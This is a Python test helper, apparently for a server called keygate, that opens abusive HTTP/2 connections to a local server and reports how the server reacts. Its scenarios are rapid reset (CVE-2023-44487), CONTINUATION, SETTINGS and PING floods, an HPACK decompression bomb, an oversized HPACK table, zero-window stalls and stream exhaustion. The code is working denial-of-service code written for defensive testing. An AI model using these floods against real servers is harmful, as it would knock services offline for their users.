#!/usr/bin/env python3
"""Abusive HTTP/2 connections to keygate, for tests/it/h2_abuse.rs.

    h2_abuse.py SCENARIO --port PORT --ca CA.pem [--count N] [--seconds S]
                         [--connections C] [--linger S]

Written with the h2 library (PyPI): h2's H2Connection writes the preface,
the SETTINGS and every well-formed frame (requests, resets); the frames h2
refuses to write (endless CONTINUATION, header blocks that abuse HPACK,
floods, more streams than the server allows) are made with its own framing
(hyperframe) and HPACK (hpack) packages. Everything the server sends is read
with hyperframe.

Bounded: each connection sends at most --count frames or streams; when the
server ends one, the next connection starts the attack again, up to
--connections of them, all within --seconds (then at most --linger seconds
waiting for the server to react). Prints one JSON object: what each
connection sent and saw (the GOAWAY, whether the server closed it).
"""

import argparse
import json
import select
import socket
import ssl
import time

import h2.config
import h2.connection
import h2.errors
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

REQUEST = [(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "localhost")]
# The test upstream never answers /slow: a stream stays in flight until reset.
SLOW = [(k, "/slow" if k == ":path" else v) for k, v in REQUEST]


def literal(name, value, index=False):
    """An HPACK literal with a new name (RFC 7541 6.2), no Huffman coding."""
    out = bytearray([0x40 if index else 0x00])
    for text in (name, value):
        raw = text.encode()
        out += hpack.hpack.encode_integer(len(raw), 7)
        out += raw
    return bytes(out)


# :method GET, :scheme https, :path / from the static table; :authority as a
# literal that is not indexed, so the dynamic table holds only what a
# scenario puts there.
STATIC_GET = bytes([0x82, 0x87, 0x84]) + b"\x01" + hpack.hpack.encode_integer(9, 7) + b"localhost"


class Client:
    def __init__(self, args, settings=None):
        self.args = args
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=10)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", "the server did not choose h2"
        self.sock.setblocking(False)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        if settings:
            # The first SETTINGS frame carries these (an update would wait for an ACK).
            self.conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.conn.initiate_connection()
        self.out = bytearray(self.conn.data_to_send())
        self.inbuf = bytearray()
        self.decoder = hpack.Decoder()
        self.block = None  # (stream id, bytes) of a header block in progress
        self.started = time.monotonic()
        self.sent_frames = 0
        self.sent_streams = 0
        self.goaway = None
        self.closed_after = None
        self.received = {}
        self.statuses = {}
        self.data_bytes = 0

    def elapsed(self):
        return time.monotonic() - self.started

    def queue(self, data, frames=1):
        self.out += data
        self.sent_frames += frames

    def pump(self, wait=0.0):
        """Write what is queued and read what arrived, for at most `wait` seconds."""
        if self.closed_after is not None:
            return
        want_write = [self.sock] if self.out else []
        try:
            readable, writable, _ = select.select([self.sock], want_write, [], wait)
        except (OSError, ValueError):
            self.closed()
            return
        if writable and self.out:
            try:
                n = self.sock.send(self.out[:65536])
                del self.out[:n]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                pass
            except OSError:
                self.closed()
                return
        if readable or self.sock.pending():
            while True:
                try:
                    chunk = self.sock.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    break
                except OSError:
                    self.closed()
                    return
                if not chunk:
                    self.closed()
                    return
                self.inbuf += chunk
                self.parse()

    def closed(self):
        if self.closed_after is None:
            self.closed_after = self.elapsed()

    def parse(self):
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            frame.parse_body(memoryview(self.inbuf[9 : 9 + length]))
            del self.inbuf[: 9 + length]
            kind = type(frame).__name__.replace("Frame", "").upper()
            self.received[kind] = self.received.get(kind, 0) + 1
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                try:
                    name = h2.errors.ErrorCodes(frame.error_code).name
                except ValueError:
                    name = str(frame.error_code)
                self.goaway = {
                    "error": name,
                    "last_stream_id": frame.last_stream_id,
                    "debug": frame.additional_data.decode("utf-8", "replace"),
                    "after_seconds": round(self.elapsed(), 3),
                }
            elif isinstance(frame, HeadersFrame):
                self.block = (frame.stream_id, bytes(frame.data))
                if "END_HEADERS" in frame.flags:
                    self.header_block_done()
            elif isinstance(frame, ContinuationFrame) and self.block:
                self.block = (self.block[0], self.block[1] + bytes(frame.data))
                if "END_HEADERS" in frame.flags:
                    self.header_block_done()
            elif type(frame).__name__ == "DataFrame":
                self.data_bytes += len(frame.data)

    def header_block_done(self):
        headers = dict(self.decoder.decode(self.block[1], raw=True))
        self.block = None
        status = headers.get(b":status")
        if status:
            key = status.decode()
            self.statuses[key] = self.statuses.get(key, 0) + 1

    def run(self, frames, deadline):
        """Send what `frames` yields (bytes, frame count, stream count) until
        `deadline`, keeping the queue short, then wait for the server."""
        self.stopped_by = "count"
        for data, n_frames, n_streams in frames:
            while len(self.out) > 256 * 1024 and self.closed_after is None:
                if time.monotonic() > deadline:
                    break
                self.pump(0.05)
            if self.closed_after is not None:
                self.stopped_by = "server"
                break
            if time.monotonic() > deadline:
                self.stopped_by = "deadline"
                break
            self.queue(data, n_frames)
            self.sent_streams += n_streams
            self.pump(0)
        self.sending_seconds = round(self.elapsed(), 3)
        linger = time.monotonic() + self.args.linger
        while self.closed_after is None and time.monotonic() < linger:
            self.pump(0.05)

    def report(self):
        return {
            "sent_frames": self.sent_frames,
            "sent_streams": self.sent_streams,
            "sending_seconds": self.sending_seconds,
            "stopped_by": self.stopped_by,
            "goaway": self.goaway,
            "closed": self.closed_after is not None,
            "closed_after_seconds": None if self.closed_after is None else round(self.closed_after, 3),
            "received": self.received,
            "statuses": self.statuses,
            "data_bytes": self.data_bytes,
        }


def batched(count, size, make):
    """`count` units in batches of `size`: (bytes, frames, streams) per batch."""
    done = 0
    while done < count:
        n = min(size, count - done)
        data, frames, streams = make(done, n)
        yield data, frames, streams
        done += n


def rapid_reset(c):
    """CVE-2023-44487: open a stream and cancel it at once, in a loop."""

    def make(_, n):
        for _ in range(n):
            sid = c.conn.get_next_available_stream_id()
            c.conn.send_headers(sid, REQUEST, end_stream=True)
            c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        return c.conn.data_to_send(), 2 * n, n

    return batched(c.args.count, 100, make)


def paced_reset(c):
    """CVE-2023-44487 without the burst: requests the upstream does not
    answer, each batch cancelled only once the server has had time to accept
    them (and start their upstream requests), so no reset is of a stream
    still waiting to be accepted."""

    def make(_, n):
        for _ in range(n):
            sid = c.conn.get_next_available_stream_id()
            c.conn.send_headers(sid, SLOW, end_stream=True)
        opened = c.conn.data_to_send()
        c.queue(opened, n)
        c.sent_streams += n
        until = time.monotonic() + 0.02
        while time.monotonic() < until:
            c.pump(0.001)
        for sid in range(c.conn.highest_outbound_stream_id - 2 * (n - 1), c.conn.highest_outbound_stream_id + 1, 2):
            c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        return c.conn.data_to_send(), n, 0

    return batched(c.args.count, 20, make)


def continuation_flood(c):
    """A header block that never ends: HEADERS without END_HEADERS, then
    CONTINUATION frames forever (each a small header, so no size limit is
    reached first)."""
    opening = HeadersFrame(1, STATIC_GET, flags=["END_STREAM"]).serialize()
    yield opening, 1, 1
    piece = ContinuationFrame(1, literal("x-flood", "a" * 32)).serialize()
    for data, frames, _ in batched(c.args.count, 1000, lambda _, n: (piece * n, n, 0)):
        yield data, frames, 0


def settings_flood(c):
    """SETTINGS frames as fast as they can be written (each must be ACKed)."""
    one = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    return batched(c.args.count, 2000, lambda _, n: (one * n, n, 0))


def ping_flood(c):
    """PING frames as fast as they can be written (each must be answered)."""
    one = PingFrame(0, opaque_data=b"flooding").serialize()
    return batched(c.args.count, 4000, lambda _, n: (one * n, n, 0))


def hpack_bomb(c):
    """One request puts a 4 KiB header in the server's HPACK decoding table;
    each later request refers to it 4,000 times (16 MB once decoded, from a
    4 KB header block)."""
    big = "b" * 4000
    first = HeadersFrame(
        1, STATIC_GET + literal("x-bomb", big, index=True), flags=["END_STREAM", "END_HEADERS"]
    ).serialize()
    yield first, 1, 1
    # Index 62: the newest dynamic entry (RFC 7541 2.3.3).
    bomb = STATIC_GET + bytes([0x80 | 62]) * 4000

    def make(start, n):
        out = bytearray()
        for i in range(n):
            out += HeadersFrame(3 + 2 * (start + i), bomb, flags=["END_STREAM", "END_HEADERS"]).serialize()
        return bytes(out), n, n

    yield from batched(c.args.count, 10, make)


def hpack_table_size(c):
    """The HPACK table size as a weapon: the client advertises a 4 GiB table
    for the server's responses (SETTINGS_HEADER_TABLE_SIZE, in its first
    SETTINGS), then, after a normal request, raises the server's decoding
    table to 1 GiB with a dynamic table size update, far over the 4,096
    bytes the server allows."""
    yield HeadersFrame(1, STATIC_GET, flags=["END_STREAM", "END_HEADERS"]).serialize(), 1, 1
    # Dynamic table size update (001xxxxx) to 2^30.
    update = hpack.hpack.encode_integer(1 << 30, 5)
    update[0] |= 0x20
    yield HeadersFrame(3, bytes(update) + STATIC_GET, flags=["END_STREAM", "END_HEADERS"]).serialize(), 1, 1


def zero_window(c):
    """Ask for large responses with every stream window at zero and never
    open it: the server can send headers but no data."""

    def make(_, n):
        for _ in range(n):
            sid = c.conn.get_next_available_stream_id()
            headers = [(k, "/download/262144" if k == ":path" else v) for k, v in REQUEST]
            c.conn.send_headers(sid, headers, end_stream=True)
        return c.conn.data_to_send(), n, n

    return batched(c.args.count, 10, make)


def many_streams(c):
    """Open --count streams at once, never waiting for an answer nor for the
    server's MAX_CONCURRENT_STREAMS (h2 itself would refuse, so the HEADERS
    frames are made by hand)."""

    def make(start, n):
        out = bytearray()
        for i in range(n):
            out += HeadersFrame(1 + 2 * (start + i), STATIC_GET, flags=["END_STREAM", "END_HEADERS"]).serialize()
        return bytes(out), n, n

    return batched(c.args.count, 200, make)


SCENARIOS = {
    "rapid-reset": (rapid_reset, None),
    "paced-reset": (paced_reset, None),
    "continuation-flood": (continuation_flood, None),
    "settings-flood": (settings_flood, None),
    "ping-flood": (ping_flood, None),
    "hpack-bomb": (hpack_bomb, None),
    "hpack-table-size": (hpack_table_size, {h2.settings.SettingCodes.HEADER_TABLE_SIZE: 0xFFFFFFFF}),
    "zero-window": (zero_window, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}),
    "many-streams": (many_streams, None),
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("scenario", choices=sorted(SCENARIOS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--count", type=int, default=10000, help="frames or streams per connection")
    p.add_argument("--seconds", type=float, default=3.0, help="time to attack, all connections")
    p.add_argument("--connections", type=int, default=30)
    p.add_argument("--interval", type=float, default=0.1, help="least time between connection starts")
    p.add_argument("--linger", type=float, default=5.0, help="wait for the server after sending")
    args = p.parse_args()
    make, settings = SCENARIOS[args.scenario]
    started = time.monotonic()
    deadline = started + args.seconds
    reports = []
    while len(reports) < args.connections and time.monotonic() < deadline:
        time.sleep(max(0.0, started + len(reports) * args.interval - time.monotonic()))
        c = Client(args, settings)
        c.run(make(c), deadline)
        reports.append(c.report())
        c.sock.close()
        if not reports[-1]["closed"]:
            break  # the server kept this one open: nothing more to learn
    print(json.dumps({
        "scenario": args.scenario,
        "seconds": round(time.monotonic() - started, 3),
        "connections": reports,
    }))


if __name__ == "__main__":
    main()
